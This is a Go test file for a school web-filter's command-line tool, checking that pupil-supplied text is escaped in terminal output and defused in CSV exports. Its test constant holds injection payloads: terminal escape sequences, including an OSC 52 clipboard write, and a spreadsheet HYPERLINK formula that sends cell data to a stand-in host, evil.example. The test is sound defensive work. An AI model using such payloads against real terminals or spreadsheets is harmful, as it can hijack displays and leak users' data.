package cli

import (
	"context"
	"encoding/csv"
	"net/netip"
	"path/filepath"
	"schoolgate/internal/store/storetest"
	"strings"
	"testing"
	"time"

	"schoolgate/internal/activity"
	"schoolgate/internal/store"
)

// evil is what a pupil may type as a reason or make a URL carry: a screen
// clear, an OSC 52 clipboard write, a C1 CSI, a spreadsheet formula.
const evil = "\x1b[2J\x1b]52;c;ZXZpbA==\x07 \u009b31m =HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"

// storeBackends runs f with the CLI pointed at SQLite in a data directory
// and, when SCHOOLGATE_TEST_POSTGRES is set, at PostgreSQL in a fresh
// schema (dropped afterwards); open opens the same store for the test.
func storeBackends(t *testing.T, f func(t *testing.T, data string, open func() *store.Store)) {
	t.Run("sqlite", func(t *testing.T) {
		t.Setenv("SCHOOLGATE_POSTGRES", "")
		data := t.TempDir()
		f(t, data, func() *store.Store {
			return openTestStore(t, store.Options{SQLitePath: filepath.Join(data, "schoolgate.db")})
		})
	})
	t.Run("postgres", func(t *testing.T) {
		dsn := storetest.PostgresDSN(t)
		t.Setenv("SCHOOLGATE_POSTGRES", dsn)
		f(t, t.TempDir(), func() *store.Store { return openTestStore(t, store.Options{PostgresDSN: dsn}) })
	})
}

func openTestStore(t *testing.T, opt store.Options) *store.Store {
	t.Helper()
	st, err := store.Open(context.Background(), opt)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

// rawControls reports the first control character in s a terminal would
// act on (C0 other than newline and tab, DEL, C1).
func rawControls(s string) (rune, bool) {
	for _, r := range s {
		if (r < 0x20 && r != '\n' && r != '\t') || (r >= 0x7f && r <= 0x9f) {
			return r, true
		}
	}
	return 0, false
}

// TestOutputIsSafe: the text a pupil controls (a request's reason, a
// display name, a grant's reason, a URL or search in the activity log)
// reaches the terminal with its controls escaped, and a spreadsheet with
// formulas defused; JSON stays JSON.
func TestOutputIsSafe(t *testing.T) {
	p := writePolicy(t, issuePolicy, issueLists)
	storeBackends(t, func(t *testing.T, data string, open func() *store.Store) {
		cli := func(args ...string) string {
			t.Helper()
			code, out, errs := run(t, "", append(args, "-c", p, "--data", data)...)
			if code != 0 {
				t.Fatalf("%v: exit %d: %s", args, code, errs)
			}
			if r, bad := rawControls(out + errs); bad {
				t.Errorf("%v printed a raw control %U:\n%q", args, r, out+errs)
			}
			return out
		}
		cli("users", "add", "amy", "--name", evil, "--groups", "pupils-ks2", "--by", "office")
		cli("users", "add", "teacher", "--role", "teacher", "--by", "office")
		cli("grant", "--to", "amy", "--category", "social-media", "--for", "1h", "--by", "teacher", "--reason", evil)
		st := open()
		ctx := context.Background()
		if _, err := st.CreateRequest(ctx, store.Request{User: "amy", Client: "10.20.0.9", Host: "bet365.com",
			Categories: []string{"gambling"}, Reason: evil}); err != nil {
			t.Fatal(err)
		}
		ev := activity.Event{Time: time.Now().Add(-time.Minute), Client: netip.MustParseAddr("10.20.0.9"), User: "amy",
			Host: "evil.example", URL: "http://evil.example/" + evil, Verdict: "allow", Rule: "default", Point: activity.PointProxy,
			Search: "@SUM(1+1)\u0085"}
		if err := st.InsertEvents(ctx, []activity.Event{ev}); err != nil {
			t.Fatal(err)
		}

		for _, args := range [][]string{{"requests", "list"}, {"users", "list"}, {"users", "show", "amy"}, {"grant", "list"}} {
			out := cli(args...)
			if !strings.Contains(out, `\x1b[2J`) && !strings.Contains(out, `\x1b]52;c;`) {
				t.Errorf("%v does not show the escapes:\n%s", args, out)
			}
		}
		if out := cli("requests", "list"); !strings.Contains(out, `\x1b[2J\x1b]52;c;ZXZpbA==\x07 \u009b31m`) {
			t.Errorf("requests list reason:\n%s", out)
		}
		out := cli("activity", "search", "--by", "dsl")
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("activity CSV: %v\n%s", err, out)
		}
		for i, cell := range rows[1] {
			if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
				t.Errorf("CSV column %s starts a formula: %q", rows[0][i], cell)
			}
		}
		search := rows[1][11]
		if search != `'@SUM(1+1)\u0085` {
			t.Errorf("search cell %q", search)
		}
		if url := rows[1][5]; !strings.Contains(url, `\x1b[2J`) || !strings.Contains(url, `\u009b31m =HYPERLINK`) {
			t.Errorf("url cell %q", url)
		}
		// JSON stays JSON: the reason decodes back to exactly what was typed.
		out = cli("requests", "list", "--json")
		if !strings.Contains(out, `\u001b[2J`) {
			t.Errorf("requests list --json: %s", out)
		}
	})
}
